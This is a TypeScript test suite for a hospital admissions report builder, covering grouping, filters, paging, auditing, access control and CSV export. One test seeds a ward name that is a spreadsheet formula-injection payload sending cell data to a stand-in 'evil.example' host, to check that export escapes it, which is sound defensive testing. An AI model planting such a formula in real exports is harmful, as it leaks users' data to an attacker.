import { beforeEach, describe, expect, it } from "vitest";
import { seedPatient, seedUser } from "@/prisma/builders";
import { db } from "@/lib/server/db";
import { parseInput } from "@/lib/server/validation";
import type { Ctx } from "@/lib/server/session";
import { resetDatabase } from "@/tests/reset";
import { ENTITIES, ENTITY_NAMES, type Field, isGroupable, isNumeric } from "./entities";
import { type ReportSpecInput, ZReportSpec } from "./spec";
import { readOnly, reportCsv, runReport } from "./service";

const PW = "pw-0123456789";
const ctxOf = (u: { id: string; email: string }, role: Ctx["actor"]["role"]): Ctx => ({
  actor: { id: u.id, role, name: role, email: u.email },
  ip: null,
});
const err = (p: Promise<unknown>) =>
  p.then(
    () => null,
    (e) => e,
  );
const spec = (s: ReportSpecInput) => parseInput(ZReportSpec, s);
const PER_WARD_MONTH: ReportSpecInput = {
  entity: "admissions",
  groupBy: [{ field: "ward" }, { field: "admittedAt", granularity: "month" }],
};

let admin: Ctx, doctor: Ctx;

async function ward(name: string) {
  const w = await db().ward.create({ data: { name, type: "GENERAL" } });
  const room = await db().room.create({ data: { wardId: w.id, name: "R1", type: "SHARED", capacity: 10 } });
  return Promise.all(["B1", "B2", "B3"].map((label) => db().bed.create({ data: { roomId: room.id, label } })));
}

/** An admission (already over) in a bed from `at` to `until`, optionally moved to a second bed. */
async function stay(patientId: string, bedId: string, at: string, until: string, movedTo?: string) {
  const a = await db().admission.create({
    data: {
      patientId,
      attendingDoctorId: doctor.actor.id,
      admittedById: admin.actor.id,
      reason: "Observation",
      plannedStayDays: 2,
      admittedAt: new Date(at),
      dischargedAt: new Date(until),
    },
  });
  await db().bedAssignment.create({
    data: { admissionId: a.id, bedId, startsAt: new Date(at), endsAt: movedTo ? new Date(at) : new Date(until) },
  });
  if (movedTo)
    await db().bedAssignment.create({
      data: { admissionId: a.id, bedId: movedTo, startsAt: new Date(at), endsAt: new Date(until) },
    });
}

describe("report builder", () => {
  beforeEach(async () => {
    await resetDatabase();
    const a = await seedUser(db(), { email: "a@h.org", name: "Admin", role: "ADMIN", password: PW });
    const d = await seedUser(db(), { email: "d@h.org", name: "Dr Who", role: "DOCTOR", password: PW });
    admin = ctxOf(a, "ADMIN");
    doctor = ctxOf(d, "DOCTOR");
    const [a1, a2, a3] = await ward("Alder");
    const [b1] = await ward("Birch");
    const p = await Promise.all(
      [1, 2, 3, 4, 5].map((i) =>
        seedPatient(db(), {
          firstName: `P${i}`,
          lastName: "Stay",
          dateOfBirth: "1980-01-01",
          sex: i % 2 ? "female" : "male",
        }),
      ),
    );
    // Alder: two in January, one in February (moved to Birch afterwards: counted in its first ward).
    await stay(p[0].id, a1.id, "2026-01-05T10:00:00Z", "2026-01-07T10:00:00Z");
    await stay(p[1].id, a2.id, "2026-01-20T10:00:00Z", "2026-01-22T10:00:00Z");
    await stay(p[2].id, a3.id, "2026-02-02T10:00:00Z", "2026-02-04T10:00:00Z", b1.id);
    // Birch: one in January, one in February.
    await stay(p[3].id, b1.id, "2026-01-10T10:00:00Z", "2026-01-11T10:00:00Z");
    await stay(p[4].id, b1.id, "2026-02-10T10:00:00Z", "2026-02-11T10:00:00Z");
  });

  it("counts admissions per ward per month, in the ward of the first bed, ordered by ward then month", async () => {
    const r = await runReport(db(), admin, spec(PER_WARD_MONTH));
    expect(r.columns.map((c) => c.key)).toEqual(["ward", "admittedAt_month", "count"]);
    expect(r.items).toEqual([
      { ward: "Alder", admittedAt_month: "2026-01", count: 2 },
      { ward: "Alder", admittedAt_month: "2026-02", count: 1 },
      { ward: "Birch", admittedAt_month: "2026-01", count: 1 },
      { ward: "Birch", admittedAt_month: "2026-02", count: 1 },
    ]);
    expect(r).toMatchObject({ total: 4, page: 1, pageSize: 25 });
  });

  it("filters: a date range and a ward", async () => {
    const feb = await runReport(
      db(),
      admin,
      spec({
        ...PER_WARD_MONTH,
        filters: [{ field: "admittedAt", op: "between", value: ["2026-02-01", "2026-02-28"] }],
      }),
    );
    expect(feb.items).toEqual([
      { ward: "Alder", admittedAt_month: "2026-02", count: 1 },
      { ward: "Birch", admittedAt_month: "2026-02", count: 1 },
    ]);
    const birch = await runReport(
      db(),
      admin,
      spec({
        entity: "admissions",
        filters: [{ field: "ward", op: "in", value: ["Birch"] }],
        aggregates: [{ fn: "count" }, { fn: "sum", field: "plannedStayDays" }],
      }),
    );
    expect(birch.items).toEqual([{ count: 2, sum_plannedStayDays: 4 }]);
    expect(birch.total).toBe(1);
  });

  it("pages with the total and a deterministic order", async () => {
    const p1 = await runReport(db(), admin, spec({ ...PER_WARD_MONTH, pageSize: 3 }));
    const p2 = await runReport(db(), admin, spec({ ...PER_WARD_MONTH, pageSize: 3, page: 2 }));
    expect(p1.items).toHaveLength(3);
    expect(p2.items).toEqual([{ ward: "Birch", admittedAt_month: "2026-02", count: 1 }]);
    expect([p1.total, p2.total]).toEqual([4, 4]);
    const list = await runReport(
      db(),
      admin,
      spec({ entity: "admissions", columns: ["admittedAt", "ward", "status"], pageSize: 2 }),
    );
    expect(list.items).toEqual([
      { admittedAt: "2026-02-10 10:00", ward: "Birch", status: "discharged" },
      { admittedAt: "2026-02-02 10:00", ward: "Alder", status: "discharged" },
    ]);
    expect(list.total).toBe(5);
  });

  it("runs read-only: a write inside the report's transaction is refused", async () => {
    const e = await err(readOnly(db(), (tx) => tx.$executeRaw`DELETE FROM "Admission"`));
    expect(String(e)).toMatch(/read-only transaction/);
    expect(await db().admission.count()).toBe(5);
  });

  it("writes one audit event per run and per export, with the spec and no results", async () => {
    await runReport(db(), admin, spec(PER_WARD_MONTH));
    const csv = await reportCsv(db(), admin, spec(PER_WARD_MONTH));
    expect(csv.body.startsWith("\uFEFF")).toBe(true);
    expect(csv.body.slice(1).split("\n")[0]).toBe("Ward,Admitted (Month),Count"); // as the builder's table heads them
    expect(csv.body).toContain("Alder,2026-01,2");
    const events = await db().auditEvent.findMany({ where: { entity: "ReportBuilder" }, orderBy: { seq: "asc" } });
    expect(events.map((e) => [e.action, e.actorId])).toEqual([
      ["VIEW", admin.actor.id],
      ["EXPORT", admin.actor.id],
    ]);
    expect(events[0].details).toMatchObject({
      entity: "admissions",
      groupBy: [{ field: "ward" }, { field: "admittedAt", granularity: "month" }],
      page: 1,
    });
    expect(JSON.stringify(events.map((e) => e.details))).not.toContain("Alder");
  });

  it("writes its CSV with the byte order mark and every formula cell as text (a ward named by an admin)", async () => {
    const [evil] = await ward('=HYPERLINK("https://evil.example/?"&A1,"Open")');
    const [accent] = await ward("Érable 2 °C");
    const p = await seedPatient(db(), { firstName: "Zoé", lastName: "Stay", dateOfBirth: "1980-01-01", sex: "female" });
    await stay(p.id, evil.id, "2026-03-05T10:00:00Z", "2026-03-07T10:00:00Z");
    await stay(p.id, accent.id, "2026-03-09T10:00:00Z", "2026-03-10T10:00:00Z");
    const csv = await reportCsv(
      db(),
      admin,
      spec({
        ...PER_WARD_MONTH,
        filters: [{ field: "admittedAt", op: "between", value: ["2026-03-01", "2026-03-31"] }],
      }),
    );
    expect(csv.body.startsWith("\uFEFF")).toBe(true);
    const [header, ...rows] = csv.body.slice(1).trimEnd().split("\n");
    expect(header).toBe("Ward,Admitted (Month),Count");
    // Headed in the requester's language.
    expect((await reportCsv(db(), admin, spec(PER_WARD_MONTH), "fr")).body.slice(1).split("\n")[0]).toBe(
      "Unité,Admission (Mois),Nombre",
    );
    expect(rows.sort()).toEqual(
      ['"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",2026-03,1', "Érable 2 °C,2026-03,1"].sort(),
    );
  });

  it("refuses a non-admin and audits nothing", async () => {
    expect(await err(runReport(db(), doctor, spec(PER_WARD_MONTH)))).toMatchObject({ code: "FORBIDDEN" });
    expect(await err(reportCsv(db(), doctor, spec(PER_WARD_MONTH)))).toMatchObject({ code: "FORBIDDEN" });
    expect(await db().auditEvent.count({ where: { entity: "ReportBuilder" } })).toBe(0);
  });

  it("every entity runs with all its columns, each grouping and each aggregate", async () => {
    for (const entity of ENTITY_NAMES) {
      const fields = Object.entries(ENTITIES[entity].fields as Record<string, Field>);
      await runReport(db(), admin, spec({ entity, columns: fields.map(([k]) => k) }));
      for (const [field, f] of fields.filter(([, f]) => isGroupable(f))) {
        await runReport(
          db(),
          admin,
          spec({ entity, groupBy: [{ field, ...(f.type === "date" ? { granularity: "week" as const } : {}) }] }),
        );
      }
      const numeric = fields
        .filter(([, f]) => isNumeric(f))
        .flatMap(([field]) => [
          { fn: "sum" as const, field },
          { fn: "avg" as const, field },
        ]);
      await runReport(db(), admin, spec({ entity, aggregates: [{ fn: "count" }, ...numeric] }));
    }
    const patients = await runReport(
      db(),
      admin,
      spec({
        entity: "patients",
        groupBy: [{ field: "sex" }],
        filters: [{ field: "dateOfBirth", op: "before", value: "1990-01-01" }],
      }),
    );
    expect(patients.items).toEqual([
      { sex: "female", count: 3 },
      { sex: "male", count: 2 },
    ]);
  });
});
